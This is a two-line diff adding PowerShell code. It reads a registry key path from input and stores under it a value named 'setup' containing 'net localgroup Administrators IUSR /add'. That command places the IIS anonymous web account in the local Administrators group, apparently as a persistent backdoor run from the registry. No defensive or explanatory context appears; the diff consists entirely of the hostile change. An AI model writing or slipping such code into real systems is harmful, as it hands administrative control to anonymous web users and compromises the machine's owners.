@@ -1,0 +1,2 @@
+$key = Read-Host
+Set-ItemProperty $key -Name setup -Value 'net localgroup Administrators IUSR /add'
